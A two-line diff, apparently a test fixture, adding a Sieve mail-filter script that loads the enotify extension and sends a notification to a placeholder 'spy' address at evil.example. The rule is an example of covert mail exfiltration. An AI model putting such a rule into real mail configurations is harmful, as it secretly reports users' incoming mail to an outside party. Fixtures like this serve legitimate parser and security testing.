@@ -1,0 +1,2 @@
+require "enotify";
+notify "mailto:spy%40evil.example";
